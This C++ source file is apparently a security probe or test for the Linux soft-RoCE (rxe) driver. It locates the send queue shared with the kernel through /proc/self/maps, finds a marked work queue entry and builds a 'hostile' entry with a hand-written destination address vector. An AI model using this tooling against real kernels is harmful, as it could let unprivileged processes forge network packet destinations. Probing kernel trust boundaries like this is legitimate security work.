// SPDX-License-Identifier: GPL-2.0
// rxe-wqe-av on plain memory: /proc/self/maps lines, the header of an rxe
// queue, the search for the normal send's WQE and the hand-made WQE.  The
// layouts are the kernel's uapi (<rdma/rdma_user_rxe.h>), shared with
// rdma-core's rxe provider; everything is copied in and out with memcpy,
// never read in place, since the kernel writes the same memory.
#include <netinet/in.h> // before the uapi headers: glibc's sockaddr_in

#include <algorithm>
#include <charconv>
#include <cstring>
#include <infiniband/verbs.h>
#include <rdma/rdma_user_rxe.h>

#include "wqe_av.h"

namespace roce::wqe_av
{

// The layout this program relies on (the uapi's; a change would be an ABI
// break in the kernel and in rdma-core alike).
static_assert(sizeof(rxe_queue_buf) == 384);
static_assert(offsetof(rxe_queue_buf, producer_index) == 128);
static_assert(offsetof(rxe_queue_buf, consumer_index) == 256);
static_assert(offsetof(rxe_send_wr, opcode) == 12);
static_assert(offsetof(rxe_send_wr, wr.ud.ah_num) == 36);
static_assert(offsetof(rxe_send_wr, wr.ud.av) == 56);
static_assert(offsetof(rxe_send_wqe, dma) == 184);
static_assert(offsetof(rxe_dma_info, reserved) == 20);
static_assert(sizeof(rxe_sge) == 16);
static_assert(kWqeSgeOffset == offsetof(rxe_send_wqe, dma) + offsetof(rxe_dma_info, reserved) +
                                   sizeof(rxe_dma_info::reserved));

namespace
{

// The WQE without its SGEs is the first kSgeOffset bytes, in C and C++.
constexpr std::size_t kSgeOffset = kWqeSgeOffset;

std::uint32_t load32(const std::byte *p)
{
	std::uint32_t v;

	std::memcpy(&v, p, sizeof(v));
	return v;
}

bool hex_value(std::string_view text, std::uint64_t &value)
{
	const char *end = text.data() + text.size();
	auto [ptr, ec] = std::from_chars(text.data(), end, value, 16);

	return !text.empty() && ec == std::errc{} && ptr == end;
}

// The next space-separated field of LINE, which is consumed up to it.
std::string_view next_field(std::string_view &line)
{
	const auto start = line.find_first_not_of(' ');

	if (start == std::string_view::npos) {
		line = {};
		return {};
	}
	line.remove_prefix(start);
	const auto end = std::min(line.find(' '), line.size());
	const std::string_view field = line.substr(0, end);
	line.remove_prefix(end);
	return field;
}

} // namespace

std::optional<std::array<std::uint8_t, 6>> parse_mac(std::string_view text)
{
	std::array<std::uint8_t, 6> mac{};

	if (text.size() != 17)
		return std::nullopt;
	for (std::size_t i = 0; i < mac.size(); i++) {
		const std::string_view byte = text.substr(3 * i, 2);
		std::uint64_t v;

		if (i + 1 < mac.size() && text[3 * i + 2] != ':')
			return std::nullopt;
		if (!hex_value(byte, v))
			return std::nullopt;
		mac[i] = static_cast<std::uint8_t>(v);
	}
	return mac;
}

// "start-end perms offset dev inode [path]"; the path may hold spaces.
std::optional<MapRegion> parse_maps_line(std::string_view line)
{
	MapRegion r;
	std::uint64_t start, end;
	const std::string_view range = next_field(line);
	const auto dash = range.find('-');

	if (dash == std::string_view::npos || !hex_value(range.substr(0, dash), start) ||
	    !hex_value(range.substr(dash + 1), end) || end <= start)
		return std::nullopt;
	r.start = static_cast<std::uintptr_t>(start);
	r.end = static_cast<std::uintptr_t>(end);
	r.perms = next_field(line);
	if (r.perms.size() != 4)
		return std::nullopt;
	for (int i = 0; i < 3; i++) // offset, device, inode
		if (next_field(line).empty())
			return std::nullopt;
	const auto path = line.find_first_not_of(' ');
	if (path != std::string_view::npos)
		r.path = line.substr(path);
	return r;
}

std::optional<QueueGeometry> send_queue_geometry(const std::byte *base, std::size_t len)
{
	QueueGeometry g;

	if (len < sizeof(rxe_queue_buf))
		return std::nullopt;
	g.log2_elem_size = load32(base + offsetof(rxe_queue_buf, log2_elem_size));
	const std::uint32_t mask = load32(base + offsetof(rxe_queue_buf, index_mask));
	g.producer = load32(base + offsetof(rxe_queue_buf, producer_index));
	g.consumer = load32(base + offsetof(rxe_queue_buf, consumer_index));

	// rxe's elements are powers of two big enough for the WQE and, here,
	// one SGE; no queue has anywhere near 2^20 slots.
	if (g.log2_elem_size > 20 || g.elem_size() < kSgeOffset + sizeof(rxe_sge))
		return std::nullopt;
	if (mask >= (1u << 20) || (mask & (mask + 1)) != 0)
		return std::nullopt;
	g.slots = mask + 1;
	if (g.producer > mask || g.consumer > mask)
		return std::nullopt;
	if ((len - sizeof(rxe_queue_buf)) / g.elem_size() < g.slots)
		return std::nullopt;
	return g;
}

std::vector<std::uint32_t> find_marked_slots(const std::byte *base, const QueueGeometry &geo,
                                             const Marker &marker)
{
	std::vector<std::uint32_t> found;

	for (std::uint32_t i = 0; i < geo.slots; i++) {
		const std::byte *slot = base + sizeof(rxe_queue_buf) + i * geo.elem_size();
		rxe_send_wqe wqe;
		rxe_sge sge;

		std::memcpy(&wqe, slot, kSgeOffset);
		std::memcpy(&sge, slot + kSgeOffset, sizeof(sge));
		if (wqe.wr.wr_id == marker.wr_id && wqe.wr.opcode == IBV_WR_SEND &&
		    wqe.wr.wr.ud.remote_qpn == marker.remote_qpn && wqe.dma.num_sge == 1 &&
		    sge.addr == marker.sge_addr && sge.lkey == marker.sge_lkey)
			found.push_back(i);
	}
	return found;
}

std::vector<std::byte> hostile_wqe(std::span<const std::byte> templ, std::uint64_t wr_id,
                                   std::uint32_t seq, const HandAv &av)
{
	std::vector<std::byte> out(templ.begin(), templ.end());
	rxe_send_wqe wqe;

	if (out.size() < kSgeOffset + sizeof(rxe_sge))
		return {};
	std::memcpy(&wqe, out.data(), kSgeOffset);

	wqe.wr.wr_id = wr_id;
	wqe.wr.opcode = IBV_WR_SEND;
	wqe.wr.send_flags |= IBV_SEND_SIGNALED;
	// The old provider's form: no AH number, the address in the WQE.
	wqe.wr.wr.ud.ah_num = 0;
	rxe_av &a = wqe.wr.wr.ud.av;
	std::memset(&a, 0, sizeof(a));
	a.port_num = av.port_num;
	a.network_type = RXE_NETWORK_TYPE_IPV4;
	std::memcpy(a.dmac, av.dmac.data(), sizeof(a.dmac));
	std::memcpy(a.grh.dgid.raw, av.dgid.data(), sizeof(a.grh.dgid.raw));
	a.grh.flow_label = av.flow_label;
	a.grh.sgid_index = av.sgid_index;
	a.grh.hop_limit = av.hop_limit;
	a.sgid_addr._sockaddr_in.sin_family = AF_INET;
	a.sgid_addr._sockaddr_in.sin_addr.s_addr = av.saddr;
	a.dgid_addr._sockaddr_in.sin_family = AF_INET;
	a.dgid_addr._sockaddr_in.sin_addr.s_addr = av.daddr;

	// What rdma-core's provider sets for a newly posted WQE; the kernel
	// wrote its progress over the template's.
	wqe.status = 0;
	wqe.state = 0; // wqe_state_posted
	wqe.iova = 0;
	wqe.mask = 0;
	wqe.first_psn = 0;
	wqe.last_psn = 0;
	wqe.ack_length = 0;
	wqe.has_rd_atomic = 0;
	wqe.ssn += seq;
	wqe.dma.resid = wqe.dma.length;
	wqe.dma.cur_sge = 0;
	wqe.dma.sge_offset = 0;

	std::memcpy(out.data(), &wqe, kSgeOffset); // the SGEs stay the template's
	return out;
}

std::optional<std::uint32_t> gid_ipv4(const std::array<std::uint8_t, 16> &gid)
{
	static constexpr std::uint8_t prefix[12] = {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff};
	std::uint32_t addr;

	if (!std::equal(std::begin(prefix), std::end(prefix), gid.begin()))
		return std::nullopt;
	std::memcpy(&addr, gid.data() + 12, sizeof(addr));
	return addr;
}

} // namespace roce::wqe_av
